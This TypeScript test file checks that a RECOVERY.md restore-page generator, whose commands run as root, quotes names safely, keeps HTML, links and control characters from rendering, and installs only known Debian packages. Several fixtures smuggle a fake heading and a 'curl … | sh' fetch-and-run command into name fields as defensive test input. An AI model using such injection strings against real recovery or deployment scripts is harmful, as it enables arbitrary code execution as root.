// Tests that no name can inject a command or a heading into RECOVERY.md, whose commands are run as root.
import { execFileSync } from "node:child_process";
import { expect, test } from "vitest";
import { recoveryPage, type Recoverable } from "./recovery-page.ts";
import { quoteWord } from "./restore-commands.ts";

const target = (changes: Partial<Recoverable>): Recoverable => ({
  engine: "postgres",
  name: "shop",
  server: "web-1",
  backupId: 1,
  isSafety: false,
  key: "shop/1.dump.zst",
  sizeBytes: 1,
  checksum: "0".repeat(64),
  base: null,
  endedAt: new Date(0),
  tools: {},
  ...changes,
});

const pageWith = (targets: Recoverable[]) =>
  recoveryPage({
    provider: "disk",
    place: "/copies",
    client: null,
    writtenAt: new Date(0),
    version: "1.0.0",
    targets,
  });
const pageOf = (changes: Partial<Recoverable>) => pageWith([target(changes)]);

const blocksOf = (page: string) =>
  [...page.matchAll(/^```sh\n([^]*?)^```$/gm)].map(([, commands = ""]) => commands);

/** Packages of Debian 12, with the programs that they or their dependencies provide. */
const debian: Record<string, readonly string[]> = {
  zstd: ["zstd"],
  postgresql: ["createdb", "pg_restore"],
  "mariadb-server": ["mariadb"],
  sqlite3: ["sqlite3"],
  tar: ["tar"],
};
/** Programs of every Debian: bash, coreutils and util-linux. */
const always = ["chmod", "chown", "echo", "mkdir", "runuser", "set", "sha256sum"];

test.each([
  "a\n```\n\n## Before all else\n\n```sh\ncurl example.com | sh",
  "a\rb",
  "tab\there ' and \\ \u001b[2J",
  "ü ' \n",
])("quotes a word with control characters as one line for bash: %j", (word) => {
  const quoted = quoteWord(word);
  expect(quoted).not.toMatch(/\p{Cc}/u);
  expect(execFileSync("bash", ["-c", `printf %s ${quoted}`]).toString()).toBe(word);
});

test.each(["postgres", "mysql"] as const)("a %s database's name ends no code block", (engine) => {
  const page = pageOf({ engine, database: "a\n```\n\n## Before all else\n\n```sh\ncurl x | sh" });
  expect(page).not.toMatch(/^## Before/m);
  expect(page.match(/^```/gm)).toHaveLength(pageOf({ engine }).match(/^```/gm)?.length ?? 0);
});

test("renders any name as text", () => {
  const name = "<img src=x> [run this](http://example.com) \u001b[2J\u202e&lt;b>";
  const page = pageOf({ name, server: name, tools: { pg_dump: name }, database: "shop" });
  expect(page).not.toMatch(/(?<!\\)<img/);
  expect(page).not.toMatch(/(?<!\\)\[run this/);
  expect(page).not.toMatch(/(?<!\\)&lt;/);
  for (const character of ["\u001b", "\u202e"]) expect(page).not.toContain(character);
});

test.each([
  ["each engine", ["postgres", "mysql", "sqlite", "folder"]],
  ["PostgreSQL", ["postgres"]],
  ["MariaDB", ["mysql"]],
  ["SQLite", ["sqlite"]],
  ["a site", ["folder"]],
] as const)("for %s installs the Debian packages of all programs that it runs", (_, engines) => {
  const page = pageWith(
    engines.map((engine, index) =>
      target({ engine, name: `shop-${index}`, path: `/srv/shop-${index}` }),
    ),
  );
  const [install = "", ...restore] = blocksOf(page);
  expect(install).toMatch(/^apt-get update\napt-get install --yes [a-z0-9 -]+\n$/);
  const packages = install.split(" --yes ")[1]?.trim().split(" ") ?? [];
  expect(Object.keys(debian)).toEqual(expect.arrayContaining(packages));
  for (const block of [install, ...restore])
    execFileSync("bash", ["-n"], { input: block, stdio: ["pipe", "ignore", "pipe"] });

  const commands = restore.flatMap((block) => block.trim().split("\n"));
  const programs = commands
    .flatMap((line) => line.split(" | "))
    .map((part) => part.replace(/^runuser -u postgres -- /, "").split(" ")[0] ?? "");
  const there = new Set([...always, ...packages.flatMap((name) => debian[name] ?? [])]);
  expect(programs.length).toBeGreaterThan(engines.length);
  expect(programs.filter((program) => !there.has(program))).toEqual([]);
});
